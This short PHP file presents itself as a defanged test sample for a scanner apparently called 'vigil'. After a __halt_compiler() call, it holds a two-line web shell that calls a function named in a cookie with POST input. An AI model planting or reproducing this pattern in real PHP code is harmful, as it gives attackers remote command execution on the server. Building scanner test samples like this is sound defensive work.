<?php
/* DEFANGED vigil test sample (see README). Nothing below runs. */
__halt_compiler();
<?php
$f = substr($_COOKIE['t'], 0, 6);
$f($_POST['x']);
